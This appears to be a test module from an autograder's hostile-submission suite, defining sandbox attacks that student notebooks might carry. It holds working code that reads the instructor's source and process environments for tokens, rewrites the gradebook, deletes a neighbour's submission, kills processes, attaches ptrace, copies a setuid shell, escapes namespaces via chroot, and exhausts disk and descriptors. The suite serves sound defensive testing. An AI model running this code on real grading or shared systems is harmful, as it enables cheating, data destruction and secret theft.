"""Host attacks: reading, writing, calling and ending what is not the submission's own.

Each stands in a cell of its own above right answers, and goes on whatever becomes of it. What it can read it
carries to the decoys' ``loot`` and shows in its output.
"""

from tests.hostile.attack import Family
from tests.hostile.lab import ALL, EACH, NAME

family = Family("host attack")
beside = family.beside

_CARRY = """
import contextlib, os, pathlib, shutil, signal, socket, sqlite3, subprocess, sys, time

def carry(name, told):
    print(name, told)
    with contextlib.suppress(OSError):
        pathlib.Path("$LOOT", name).write_text(str(told)[:100_000])

anyway = contextlib.suppress(Exception)
"""


def _beside(name: str, what: str, code: str, deserves: float = ALL, says: str = "") -> None:
    import textwrap

    beside(name, what, _CARRY + textwrap.dedent(code), deserves, says)


_beside(
    "reads the source",
    "reads the instructor's notebook by its path, by a search upwards and through /proc",
    f"""
    paths = [pathlib.Path("$SOURCE"), pathlib.Path("/proc/1/root$SOURCE"), pathlib.Path("/proc/self/root$SOURCE")]
    for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
        with anyway:
            paths += folder.glob("source/*/{NAME}.ipynb")
    for path in paths:
        with anyway:
            carry("source", path.read_text())
    """,
)
_beside(
    "reads the gradebook",
    "opens the gradebook and reads everybody's scores",
    """
    with anyway:
        carry("gradebook", sqlite3.connect("file:$GRADEBOOK?mode=ro", uri=True).execute("select * from grade").fetchall())
    with anyway:
        carry("gradebook", open("$GRADEBOOK", "rb").read())
    """,
)
_beside(
    "rewrites the gradebook",
    "sets its own score to 100 and everybody else's to 0 with SQL, and holds a lock on the database",
    """
    with anyway:
        database = sqlite3.connect("$GRADEBOOK", timeout=0.1)
        database.execute("update grade set score = 100 where student = 'me'")
        database.execute("update grade set score = 0 where student != 'me'")
        database.commit()
        database.execute("begin exclusive")
    """,
)
_beside(
    "deletes a neighbour's submission",
    "reads a neighbour's submission, takes its answers and deletes it",
    f"""
    with anyway:
        carry("neighbour", pathlib.Path("$NEIGHBOUR", "{NAME}.ipynb").read_text())
    shutil.rmtree("$NEIGHBOUR", ignore_errors=True)
    for path in pathlib.Path.cwd().glob("../../../submitted/*/*/*.ipynb"):
        with anyway:
            carry(path.parts[-3], path.read_text())
    """,
)
_beside(
    "calls over the network",
    "connects to a port of this machine, by every address it may have, and asks for the cloud's metadata",
    """
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
        with anyway:
            socket.create_connection((host, $PORT), timeout=0.3).send(b"GET / HTTP/1.0\\n\\n")
    with anyway:
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.sendto(b"hello", ("127.0.0.1", $PORT))
    """,
)
_beside(
    "calls a unix socket",
    "connects to a unix socket of this machine, and to the abstract ones",
    """
    with anyway:
        caller = socket.socket(socket.AF_UNIX)
        caller.settimeout(0.3)
        caller.connect("$UNIX")
        caller.send(b"hello")
    with anyway:
        for line in open("/proc/net/unix"):
            name = line.split()[-1]
            if name.startswith("@") and "$MARK" in name:
                carry("abstract", name)
    """,
)
_beside(
    "ends a process",
    "stops and kills a process of somebody else's, by its id and by those that /proc shows",
    """
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        with anyway:
            os.kill($PID, number)
    """,
)
_beside(
    "reads the environment",
    "reads the environment of its own process, of its parents and of all others",
    """
    told = [value for value in os.environ.values() if value.startswith("token-")]
    for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
        with anyway:
            told += [part.decode() for part in place.read_bytes().split(b"\\0") if b"=token-" in part]
    if told:
        carry("environment", told)
    """,
)
_beside(
    "walks through /proc",
    "looks for other processes, their command lines, open files, folders and memory",
    """
    own = {os.getpid(), os.getppid(), 1}
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        with anyway:
            said = (process / "cmdline").read_bytes()
            if b"sleep" in said:
                carry("process", said)
        for file in process.glob("fd/*"):
            with anyway:
                if "$ROOT" in os.readlink(file):
                    carry("file", file.read_text(errors="replace"))
        with anyway:
            if (process / "cwd" / "source.ipynb").exists():
                carry("folder", (process / "cwd" / "source.ipynb").read_text())
    """,
)
_beside(
    "writes outside",
    "writes, appends and deletes outside its folder, by absolute paths and by ..",
    """
    for place in ("$ROOT", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "../../../../../$ROOT", "../.."):
        with anyway:
            pathlib.Path(place, "planted-$MARK").write_text("planted")
    for how in ("w", "a"):
        with anyway:
            open("$OUTSIDE", how).write("changed")
    with anyway:
        os.unlink("$OUTSIDE")
    """,
)
_beside(
    "plants links",
    "plants symbolic and hard links in its folder that lead outside, in place of its notebook and of data",
    f"""
    for name in ("{NAME}.ipynb", "data.csv", "timestamp.txt", "figure.png"):
        with anyway:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(name)
            os.symlink("$OUTSIDE", name)
            open(name, "w").write("changed")
        with anyway:
            os.link("$OUTSIDE", name + "-hard")
            open(name + "-hard", "w").write("changed")
    with anyway:
        os.symlink("/", "everything")
    """,
)
_beside(
    "changes rights",
    "sets the set-user-id bit on files in and outside its folder, and gives its folder away",
    """
    with anyway:
        shutil.copy("/bin/sh", "shell")
        os.chmod("shell", 0o6777)
    for path in ("$OUTSIDE", "$NEIGHBOUR", "/etc/passwd", sys.executable):
        with anyway:
            if path == "$OUTSIDE" or path == "$NEIGHBOUR":
                os.chmod(path, 0o4755)
            else:
                os.access(path, os.W_OK) and os.getuid() and os.chmod(path, os.stat(path).st_mode)
    with anyway:
        os.chmod(".", 0)
        os.chmod(".", 0o777)
    with anyway:
        carry("setuid", os.setuid(0) or os.getuid()) if os.getuid() else None
    """,
)
_beside(
    "traces its parent",
    "attaches to its parent as a debugger, and reads another process's memory",
    """
    import ctypes
    library = ctypes.CDLL(None, use_errno=True)
    library.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for pid in ($PID,):
        with anyway:
            if library.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
                carry("traced", pid)
        with anyway:
            open(f"/proc/{pid}/mem", "rb").read(0)
            carry("memory", pid)
    """,
)
_beside(
    "mounts",
    "mounts file systems, enters other namespaces and makes new ones, to get back what the sandbox hides",
    """
    import ctypes
    library = ctypes.CDLL(None, use_errno=True)
    if os.getpid() < 20 and os.fork() == 0:  # in a world of its own: no real machine is mounted over
        for made in (0x10000000, 0x20000 | 0x10000000, 0x40000000):
            library.unshare(made)
        library.mount(b"proc", b"/proc", b"proc", 0, None)
        library.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
        for kind in ("mnt", "net", "pid"):
            with anyway:
                library.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)
        with anyway:
            carry("source", open("$SOURCE").read())
        with anyway:
            os.makedirs("deep")
            os.chroot("deep")
            for _ in range(99):
                os.chdir("..")
            os.chroot(".")
            carry("source", open("$SOURCE").read())
        os._exit(0)
    """,
)
_beside(
    "leaves a process behind",
    "starts processes that detach themselves and live on for five minutes",
    """
    sleeper = "import time; time.sleep(300)"
    with anyway:
        subprocess.Popen([sys.executable, "-c", sleeper, "$MARK"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    """,
)
_beside(
    "becomes a daemon",
    "forks twice, leaves its session, names itself anew and lives on for five minutes, with all descriptors open",
    """
    with anyway:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    pathlib.Path("/proc/self/comm").write_text("$MARK")
                for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                time.sleep(300)
            os._exit(0)
    """,
)
_beside(
    "fills temporary places",
    "writes 200 MB into each place for temporary files",
    """
    for place in (".", "/tmp", "/dev/shm"):
        with anyway:
            with open(os.path.join(place, "fill-$MARK" if place != "." else "fill"), "wb") as file:
                for _ in range(200):
                    file.write(bytes(1 << 20))
    """,
)
_beside(
    "holds ten thousand files open",
    "opens files until no more can be opened, and keeps them",
    """
    held = []
    with anyway:
        for _ in range(10_000):
            held.append(open("/dev/null"))
    del held
    """,
)
_beside(
    "deletes its own folder",
    "deletes its own folder and everything in it while it is being graded",
    """
    for path in pathlib.Path.cwd().glob("*"):
        with anyway:
            path.unlink()
    with anyway:
        shutil.rmtree(os.getcwd())
    """,
)
family.answers(
    "writes to descriptors",
    "aims at our engine: writes nonsense to every descriptor it has inherited, in its last answer",
    {
        "seek": """
import os, stat

def seek(ask, low, high):
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"A" + bytes(8) + b"nonsense" * 9)
        except OSError:
            pass
    return low
"""
    },
    ALL - EACH,
    says="gone",
)
family.answers(
    "writes elsewhere when called",
    "waits with its attack until a check calls, where the sandbox may already be gone",
    {
        "spread": _CARRY
        + """
def spread(numbers):
    with anyway:
        carry("source", open("$SOURCE").read())
    with anyway:
        open("$OUTSIDE", "w").write("changed")
    with anyway:
        socket.create_connection(("127.0.0.1", $PORT), timeout=0.3)
    with anyway:
        os.kill($PID, signal.SIGKILL)
    return max(numbers) - min(numbers) if numbers else 0
"""
    },
    ALL,
)
_beside(
    "outlives its sandbox's first process",
    "kills process 1 of its own world and its parent, by their ids",
    """
    import os
    if os.getpid() < 20:  # in a world of its own
        for pid in (1, os.getppid()):
            with anyway:
                os.kill(pid, signal.SIGKILL) if pid != os.getpid() and pid else None
    """,
)

ATTACKS = tuple(family.attacks)
